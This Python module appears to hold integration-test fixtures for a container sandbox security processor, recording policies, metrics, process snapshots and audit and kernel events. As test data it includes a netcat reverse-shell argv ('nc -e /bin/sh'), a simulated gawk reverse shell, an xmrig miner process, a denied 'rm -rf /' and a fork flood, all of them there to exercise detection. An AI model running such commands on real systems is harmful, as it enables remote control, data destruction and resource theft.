"""Recorded event sequences for the processor's integration tests (phased by topic: Kafka
orders events per key within a topic, not across topics, so each phase is one topic)."""

from __future__ import annotations

from schemas import (
    AuditCategory,
    AuditEvent,
    ConnectEvent,
    ExecEvent,
    LimitsSample,
    MetricSample,
    PolicyEvent,
    ProcessInfo,
    ProcessSnapshot,
    ResourceLimits,
    SecurityPolicy,
    encode,
)
from schemas import topics as t
from tests.integration.processors.conftest import Recorded

MIB = 1024 * 1024
T0 = 1_800_000_000_000  # event times are explicit, far from the wall clock


def _policy(cid: str, policy: SecurityPolicy) -> tuple[str, str, bytes]:
    ev = PolicyEvent(
        container_id=cid, host="h1", policy_id=policy.policy_id, policy=policy, sandbox_name=f"sg-{cid}"
    )
    return t.POLICIES, cid, encode(ev)


def _denied(cid: str, t_ms: int, command: str) -> tuple[str, str, bytes]:
    ev = AuditEvent(container_id=cid, host="h1", time=t_ms, category=AuditCategory.EXEC, action="exec",
                    allowed=False, subject=command, reason="blocked")  # fmt: skip
    return t.AUDIT, cid, encode(ev)


def mixed() -> list[Recorded]:
    """Four sandboxes, every family of rule, phased: policies, metrics, processes, audit, kernel."""
    strict = SecurityPolicy(
        resource_limits=ResourceLimits(memory_mb=64), violation_threshold=3, name="strict"
    )
    audit_only = SecurityPolicy(mode="audit", violation_threshold=2, name="audit-only")
    allow = SecurityPolicy(allowed_commands={"sh", "python3"}, auto_terminate_on_violation=False,
                           escalation_response="throttle", violation_threshold=2, name="allow")  # fmt: skip
    policies: Recorded = [_policy("A", strict), _policy("B", audit_only), _policy("C", allow)]
    metrics: Recorded = []
    for i in range(6):
        ts = T0 + i * 1000
        a = MetricSample(container_id="A", host="h1", time=ts, memory_working_set_bytes=90 * MIB,
                         pids_max_events_total=i * 2)  # fmt: skip
        d = MetricSample(container_id="D", host="h2", time=ts, memory_oom_kills_total=min(i, 2))
        metrics += [(t.METRICS, "A", encode(a)), (t.METRICS, "D", encode(d))]
    drift = LimitsSample(container_id="C", host="h1", time=T0, memory_limit_bytes=None, pids_max=50,
                         cpu_quota_us=50_000, cpu_period_us=100_000)  # fmt: skip
    metrics.append((t.METRICS, "C", encode(drift)))

    def proc(pid: int, comm: str, *argv: str) -> ProcessInfo:
        return ProcessInfo(pid=pid, ppid=1, uid=1000, comm=comm, exe=f"/usr/bin/{comm}", argv=argv)

    rs = proc(9, "nc", "nc", "-e", "/bin/sh", "127.0.0.1", "4444")
    snap_b = ProcessSnapshot(container_id="B", host="h1", time=T0, full=True, processes=(rs,))
    snap_c = ProcessSnapshot(
        container_id="C",
        host="h1",
        time=T0 + 1,
        full=True,
        processes=(proc(3, "perl", "perl"), proc(4, "xmrig", "xmrig")),
    )
    processes: Recorded = [(t.PROCESSES, "B", encode(snap_b)), (t.PROCESSES, "C", encode(snap_c))]
    audit: Recorded = [_denied("A", T0 + 7000, "rm -rf /"), _denied("C", T0 + 2000, "sudo ls")]
    gone = AuditEvent(
        container_id="D", host="h2", time=T0 + 9000, category=AuditCategory.LIFECYCLE, action="destroy"
    )
    audit.append((t.AUDIT, "D", encode(gone)))
    return [policies, metrics, processes, audit, _kernel_reverse_shell("B", T0 + 3000)]


def _kernel_reverse_shell(cid: str, t_ms: int) -> Recorded:
    """gawk connects to a listener and runs a shell for what it reads (evidence, not argv:
    the snapshot's `nc -e /bin/sh` argv above is only a hint)."""
    gawk = ExecEvent(container_id=cid, host="h1", time=t_ms, pid=60, ppid=1, filename="/usr/bin/gawk",
                     exe="/usr/bin/gawk", program="gawk", argv=("gawk", "BEGIN{}"))  # fmt: skip
    conn = ConnectEvent(container_id=cid, host="h1", time=t_ms + 1, pid=60, comm="gawk", daddr="127.0.0.1",
                        dport=4444, result=0)  # fmt: skip
    sh = ExecEvent(container_id=cid, host="h1", time=t_ms + 2, pid=61, ppid=60, filename="/bin/sh",
                   exe="/usr/bin/dash", program="sh", argv=("sh", "-c", "id"))  # fmt: skip
    return [(t.KERNEL, cid, encode(gawk)), (t.KERNEL, cid, encode(conn)), (t.KERNEL, cid, encode(sh))]


def late_policy(cid: str) -> list[Recorded]:
    """A busybox fork flood judged before its policy: one refused fork (the shell exits at
    it), then the sandbox's policy, a later fetch: threshold 1, so it is terminated."""
    samples: Recorded = []
    for i, refused in enumerate((0, 1, 1)):
        ev = MetricSample(container_id=cid, host="h1", time=T0 + i * 1000, pids_current=23 + min(i, 1),
                          pids_max=24, pids_max_events_total=refused)  # fmt: skip
        samples.append((t.METRICS, cid, encode(ev)))
    strict = SecurityPolicy(violation_threshold=1, name="forkbomb-strict")
    return [samples, [_policy(cid, strict)]]


def denied_stream(containers: int, per_container: int) -> Recorded:
    """Audit denials only (one topic, so any interleaving across containers is equivalent):
    five distinct commands, then repeats; the default policy terminates at the fifth."""
    out: Recorded = []
    for j in range(per_container):
        for c in range(containers):
            out.append(_denied(f"k{c:03d}", T0 + j * 1000, f"cmd{j % 5} --n {j}"))
    return out


def metric_backlog(containers: int, ticks: int) -> Recorded:
    """Samples 1 s apart, tick by tick (one topic): a container in five over its memory
    limit (level findings, updates, a terminate), one in five OOM-killed every 30 s,
    the rest quiet. Five minutes of event time close and reopen the findings."""
    out: Recorded = []
    for tick in range(ticks):
        for c in range(containers):
            cid = f"m{c:03d}"
            mem = (600 if c % 5 == 0 else 200) * MIB
            ooms = tick // 30 if c % 5 == 1 else 0
            ev = MetricSample(container_id=cid, host="h1", time=T0 + tick * 1000,
                              memory_working_set_bytes=mem, memory_oom_kills_total=ooms,
                              cpu_usage_ns_total=tick * 100_000_000)  # fmt: skip
            out.append((t.METRICS, cid, encode(ev)))
    return out
